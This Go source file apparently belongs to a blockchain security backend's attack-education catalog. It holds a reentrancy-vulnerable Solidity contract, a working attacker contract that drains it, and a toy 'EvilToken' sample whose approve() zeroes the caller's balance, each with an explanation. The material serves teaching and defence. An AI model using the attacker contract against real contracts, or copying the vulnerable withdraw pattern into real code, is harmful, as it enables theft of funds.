package catalog

import "github.com/blockguard/blockguard-backend/internal/attack_education/domain"

const reentrancyVulnerable = `
contract Vulnerable {
    mapping(address => uint) public balances;

    function deposit() public payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() public {
        uint amount = balances[msg.sender];
        if (amount > 0) {
            (bool success, ) = msg.sender.call{value: amount}("");
            require(success);
            balances[msg.sender] = 0;
        }
    }
}`

const reentrancyAttacker = `
contract Attacker {
    address public target;

    constructor(address _target) {
        target = _target;
    }

    fallback() external payable {
        if (address(target).balance >= 1 ether) {
            target.call(abi.encodeWithSignature("withdraw()"));
        }
    }

    function attack() public payable {
        require(msg.value >= 1 ether);
        target.call{value: 1 ether}(abi.encodeWithSignature("deposit()"));
        target.call(abi.encodeWithSignature("withdraw()"));
    }
}`

const approvalHookToken = `
contract EvilToken {
    mapping(address => uint256) public balanceOf;

    function approve(address spender, uint256 amount) public returns (bool) {
        if (spender == address(this)) {
            // silently drains user
            balanceOf[msg.sender] = 0;
        }
        return true;
    }
}`

func reentrancy() domain.ExploitTemplate {
	return domain.ExploitTemplate{
		Type:               domain.AttackReentrancy,
		VulnerableContract: reentrancyVulnerable,
		AttackerContract:   reentrancyAttacker,
		Explanation: "This generates a reentrancy exploit, where an attacker repeatedly calls withdraw() " +
			"before balance is updated, draining funds from the vulnerable contract.",
	}
}

func approvalHook() domain.MalwareSample {
	return domain.MalwareSample{
		Type:          "real Approval Hook",
		MaliciousCode: approvalHookToken,
		HowItWorks: "This contract tricks users into calling approve(), but uses the opportunity to erase " +
			"their token balance. It generates a live code on how malicious hooks are embedded.",
		ProtectionTip: "Never approve unknown tokens. Use permission scanners like BlockGuard to verify " +
			"token behavior before interacting.",
	}
}
